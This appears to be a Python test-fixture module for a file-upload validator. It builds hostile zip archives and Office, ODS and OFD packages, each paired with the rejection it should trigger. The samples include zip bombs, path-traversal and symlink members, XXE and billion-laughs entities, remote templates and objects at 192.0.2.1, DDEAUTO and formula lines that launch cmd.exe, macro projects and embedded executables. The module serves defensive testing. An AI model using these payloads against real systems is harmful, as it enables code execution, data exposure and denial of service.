"""Hostile archives and office packages."""

import io
import zipfile

from duxing.files.tests import samples
from rigs.files.cases import (
    BROKEN,
    LOCKED,
    MACRO,
    MEMBER,
    MEMBER_NAME,
    TOO_MUCH,
    UNLIKE,
    UNREADABLE,
    Case,
    Cases,
    bomb,
)
from rigs.files.material import (
    BODY,
    EXE,
    OFFICE,
    WORD,
    bomb_zip,
    by_hand,
    docx_body,
    docx_rel,
    docx_with,
    entry,
    laughs,
    outside,
    sheet,
    xlsx_with,
    zeros,
)  # fmt: skip

BOMB_ZIP, BOMB_DOCX, BOMB_XLSX = bomb("材料.zip"), bomb("报告.docx"), bomb("台账.xlsx")


def archives() -> Cases:
    """Archives: what unpacks too far, what lies, what leads elsewhere, what hides something."""
    z = "材料.zip"
    return [
        Case("解压后 250 MB 的压缩包", z, lambda: bomb_zip({f"{n}.txt": 50 for n in range(5)}), BOMB_ZIP),
        Case("42 KB 解出 40 MB", z, lambda: bomb_zip({"一.txt": 40}), BOMB_ZIP),
        Case("套三层的压缩包", z, _nested, MEMBER, member="内.zip"),
        Case("装着自己的压缩包", z, _quine, MEMBER, member="材料.zip"),
        Case("501 个文件", z, lambda: samples.zipped({f"{n}.txt": "x" for n in range(501)}), BOMB_ZIP),
        Case("三万个空文件", z, lambda: samples.zipped({f"{n}.txt": "" for n in range(30_000)}), BOMB_ZIP),
        Case("重叠的条目", z, _overlapping, (BROKEN, UNLIKE, BOMB_ZIP)),
        Case("同名的两个条目", z, _twice, (BROKEN, UNLIKE)),
        Case("谎报解压后 10 字节", z, lambda: _lying(10), (BROKEN, BOMB_ZIP)),
        Case("谎报压缩后大小以压低比例", z, _lying_packed, (BROKEN, BOMB_ZIP, UNLIKE)),
        Case("有密码的压缩包", z, _locked_zip, LOCKED),
        Case("指向上级目录的成员", z, lambda: samples.zipped({"../../etc/cron.d/x.txt": "x"}), UNLIKE),
        Case("绝对路径的成员", z, lambda: samples.zipped({"/etc/passwd.txt": "x"}), UNLIKE),
        Case("盘符路径的成员", z, lambda: samples.zipped({"C:/Windows/x.txt": "x"}), UNLIKE),
        Case("反斜杠路径的成员", z, lambda: samples.zipped({"一\\..\\..\\x.txt": "x"}), UNLIKE),
        Case("符号链接", z, _link, UNLIKE),
        Case("成员名带反向字符", z, lambda: samples.zipped({"报告\u202efdp.txt": "x"}), MEMBER_NAME),
        Case("成员名是设备名", z, lambda: samples.zipped({"con.txt": "x"}), MEMBER_NAME),
        Case("成员名三百个字", z, lambda: samples.zipped({"长" * 300 + ".txt": "x"}), MEMBER_NAME),
        Case("装着程序", z, lambda: samples.zipped({"安装.exe": EXE}), MEMBER, member="安装.exe"),
        Case("装着网页脚本", z, lambda: samples.zipped({"说明.js": "x"}), MEMBER, member="说明.js"),
        Case("程序改名为文档后打包", z, lambda: samples.zipped({"报告.docx": EXE}), UNLIKE),
        Case("带宏的文档打包", z, lambda: samples.zipped({"报告.docx": _macro()}), MACRO),
        Case("宏格式打包", z, lambda: samples.zipped({"台账.xlsm": samples.xlsx()}), MACRO),
        Case("文档炸弹打包", z, lambda: samples.zipped({"报告.docx": _padded(60)}), BOMB_ZIP),
        Case("截断的压缩包", z, lambda: samples.zipped({"a.txt": "abc" * 500})[:-30], UNLIKE),
        Case("改名为压缩包的 RAR", z, lambda: b"Rar!\x1a\x07\x00" + b"\0" * 400, UNLIKE),
        Case("改名为压缩包的 7Z", z, lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 400, UNLIKE),
        Case("压缩包兼 PDF", z, lambda: samples.zipped({"%PDF-1.4.txt": samples.pdf()}, 0), UNLIKE),
    ]


def documents() -> Cases:
    """Office packages: entities, outside references, macros, fields, objects, bombs."""
    d, x = "报告.docx", "台账.xlsx"
    instruction = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
    return [
        Case("正文里的外部实体", d, lambda: docx_with({BODY: outside()}), MACRO),
        Case("外部参数实体", d, lambda: docx_with({BODY: _parameter_entity()}), MACRO),
        Case("外部实体写成 UTF-16", d, lambda: docx_with({BODY: _wide(outside())}), MACRO),
        Case("十亿个笑", d, lambda: docx_with({BODY: laughs()}), MACRO),
        Case("属性里的十亿个笑", d, lambda: docx_with({"docProps/core.xml": laughs()}), MACRO),
        Case("关系里的外部实体", d, lambda: docx_with({"word/_rels/document.xml.rels": outside()}), MACRO),
        Case("类型表里的十亿个笑", d, _types_laughs, MACRO),
        Case("表格里的外部实体", x, lambda: xlsx_with({"xl/sharedStrings.xml": outside()}), MACRO),
        Case("表格里的十亿个笑", x, lambda: xlsx_with({"xl/worksheets/sheet1.xml": laughs()}), MACRO),
        Case("ods 里的外部实体", "台账.ods", lambda: samples.zipped({"content.xml": outside()}), "{name}"),
        Case("ofd 里的外部实体", "公文.ofd", lambda: samples.zipped({"OFD.xml": outside()}), MACRO),
        Case("远程模板", d, lambda: docx_rel("attachedTemplate", "http://192.0.2.1/x.dotm"), MACRO),
        Case("远程对象", d, lambda: docx_rel("oleObject", "http://192.0.2.1/x.html!"), MACRO),
        Case("远程图片", d, lambda: docx_rel("image", "file://192.0.2.1/share/x.png"), MACRO),
        Case("远程框架", d, lambda: docx_rel("frame", "http://192.0.2.1/"), MACRO),
        Case("嵌入的网页", d, lambda: docx_rel("aFChunk", "x.html", "Internal"), MACRO),
        Case("宏工程", d, _macro, MACRO),
        Case("类型声明为带宏", d, _macro_type, MACRO),
        Case("宏格式改名", d, lambda: docx_with({"word/vbaData.xml": "<x/>"}), MACRO),
        Case("宏文档", "报告.docm", samples.docx, MACRO),
        Case("宏表格", "台账.xlsm", samples.xlsx, MACRO),
        Case("二进制表格", "台账.xlsb", samples.xlsx, MACRO),
        Case("四代宏表", x, lambda: xlsx_with({"xl/macrosheets/sheet1.xml": "<x/>"}), MACRO),
        Case("四代宏表换了地方", x, _macro_sheet_elsewhere, MACRO),
        Case("外部控件", d, lambda: docx_with({"word/activeX/activeX1.xml": "<x/>"}), MACRO),
        Case("动态数据交换", d, lambda: docx_body(instruction.format('DDEAUTO c:\\x\\cmd.exe "/k calc"')), MACRO),
        Case("拆成几段的动态数据交换", d, lambda: docx_body(_cut_field("DDEA", "UTO", " cmd")), MACRO),
        Case("简写域里的动态数据交换", d, _simple_field, MACRO),
        Case("取外部文字的域", d, lambda: docx_body(instruction.format('INCLUDETEXT "http://192.0.2.1/"')), MACRO),
        Case("表格的外部链接", x, lambda: xlsx_with({"xl/externalLinks/externalLink1.xml": "<x/>"}), MACRO),
        Case("公式里的动态数据交换", x, lambda: _formula("cmd|'/C calc'!A0"), MACRO),
        Case("公式取外部数据", x, lambda: _formula('WEBSERVICE("http://192.0.2.1/")'), MACRO),
        Case("外部数据连接", x, lambda: xlsx_with({"xl/connections.xml": "<connections/>"}), MACRO),
        Case("嵌入的程序", d, lambda: docx_with({"word/embeddings/x.exe": EXE}), MACRO),
        Case("包装对象里的程序", d, lambda: docx_with({"word/embeddings/oleObject1.bin": _packaged()}), MACRO),
        Case("嵌入的宏表格", d, lambda: docx_with({"word/embeddings/a.xlsm": samples.xlsx()}), MACRO),
        Case("嵌入的带宏文档", d, lambda: docx_with({"word/embeddings/a.docx": _macro()}), MACRO),
        Case("有密码的文档", d, lambda: samples.ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), LOCKED),
        Case("有密码的表格", x, lambda: samples.ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), LOCKED),
        Case("旧格式改名", d, samples.old_doc, UNLIKE),
        Case("程序改名为文档", d, lambda: EXE, UNLIKE),
        Case("表格改名为文档", d, samples.xlsx, UNLIKE),
        Case("压缩包改名为文档", d, lambda: samples.zipped({"a.txt": "x"}), UNLIKE),
        Case("正文炸弹", d, lambda: _padded(60), BOMB_DOCX),
        Case("正文 300 MB", d, lambda: _padded(300), BOMB_DOCX),
        Case("图片位置的炸弹", d, lambda: docx_with({"word/media/a.png": zeros(250)}), BOMB_DOCX),
        Case("共享字符串炸弹", x, lambda: xlsx_with({"xl/sharedStrings.xml": _strings(3_000_000)}), BOMB_XLSX),
        Case("样式炸弹", x, lambda: xlsx_with({"xl/styles.xml": b"<s>" + b"<x/>" * 20_000_000 + b"</s>"}), BOMB_XLSX),
        Case("十万层标签", d, lambda: docx_body("<w:x>" * 100_000 + "</w:x>" * 100_000), (BROKEN, TOO_MUCH)),
        Case("正文被截断", d, lambda: docx_with({BODY: "<w:document xmlns:w='x'><w:bo"}), BROKEN),
        Case(
            "一百万个段落", d, lambda: docx_body(_paragraphs(1_000_000)), (TOO_MUCH, UNREADABLE), only="import", heavy=True
        ),
    ]  # fmt: skip


def _nested() -> bytes:
    inner = samples.zipped({"底.zip": bomb_zip({"一.txt": 20})})
    return samples.zipped({"内.zip": inner})


def _quine() -> bytes:
    inner = samples.zipped({"材料.zip": b""})
    return samples.zipped({"材料.zip": inner})


def _overlapping() -> bytes:
    local, _ = entry(b"0.txt", zeros(1))
    lines = [entry(b"%d.txt" % n, zeros(1))[1] for n in range(10)]
    return by_hand(local, lines)


def _twice() -> bytes:
    first, line = entry(b"a.txt", b"abc")
    second, other = entry(b"a.txt", b"MZ" * 300, offset=len(first))
    return by_hand(first + second, [line, other])


def _lying(size: int) -> bytes:
    local, line = entry(b"a.txt", zeros(64), size=size)
    return by_hand(local, [line])


def _lying_packed() -> bytes:
    """The directory says that the packed data are as long as the unpacked, so that the ratio looks tame."""
    local, line = entry(b"a.txt", zeros(64))
    size = (64 * 1024 * 1024).to_bytes(4, "little")
    return by_hand(local, [line[:20] + size + line[24:]])


def _locked_zip() -> bytes:
    local, line = entry(b"a.txt", b"abc", bits=1)
    return by_hand(local, [line])


def _link() -> bytes:
    local, line = entry(b"a.txt", b"/etc/passwd", mode=0o120777 << 16)
    return by_hand(local, [line])


def _macro() -> bytes:
    return docx_with({"word/vbaProject.bin": samples.ole({"VBA": b"x"})})


def _macro_type() -> bytes:
    plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    macro = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    change = {"[Content_Types].xml": lambda body: body.replace(plain, macro)}
    return samples.repacked(samples.docx(), replace=change)


def _macro_sheet_elsewhere() -> bytes:
    kind = b"application/vnd.ms-excel.intlmacrosheet+xml"
    line = b'<Override PartName="/xl/worksheets/m.xml" ContentType="%s"/></Types>' % kind
    change = {"[Content_Types].xml": lambda body: body.replace(b"</Types>", line)}
    return samples.repacked(samples.xlsx(), replace=change, add={"xl/worksheets/m.xml": sheet("")})


def _types_laughs() -> bytes:
    def laughing(body: bytes) -> bytes:
        entities = laughs("Types").split(b"]>", 1)[0] + b"]>"
        return entities + body.split(b"?>", 1)[1].lstrip()

    return samples.repacked(samples.docx(), replace={"[Content_Types].xml": laughing})


def _parameter_entity() -> bytes:
    return b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]><a/>'


def _wide(xml: bytes) -> bytes:
    return xml.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")


def _cut_field(*parts: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in parts)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}</w:p>'


def _simple_field() -> bytes:
    return docx_body('<w:p><w:fldSimple w:instr="DDE cmd"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>')


def _formula(words: str) -> bytes:
    cell = f'<row r="1"><c r="A1"><f>{words.replace(chr(34), "&quot;")}</f><v>0</v></c></row>'
    return xlsx_with({"xl/worksheets/sheet1.xml": sheet(cell)})


def _packaged() -> bytes:
    return samples.ole({"\x01Ole10Native": EXE})


def _padded(megabytes: int) -> bytes:
    blanks = " " * (megabytes * 1024 * 1024)
    return docx_with({BODY: f'<w:document xmlns:w="{WORD}"><w:body>{blanks}</w:body></w:document>'})


def _strings(count: int) -> bytes:
    return b'<sst xmlns="x">' + b"<si><t>aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa</t></si>" * count + b"</sst>"


def _paragraphs(count: int) -> str:
    # Numbers, so that it does not pack like a bomb; a document of this kind can be made in any office.
    return "".join(f"<w:p><w:r><w:t>{n * 7919 % 1_000_003:x}{n:x}</w:t></w:r></w:p>" for n in range(count))


def opened(data: bytes) -> list[str]:
    """The names in an archive, for the tests of this file."""
    return zipfile.ZipFile(io.BytesIO(data)).namelist()


__all__ = ["OFFICE", "archives", "documents", "opened"]
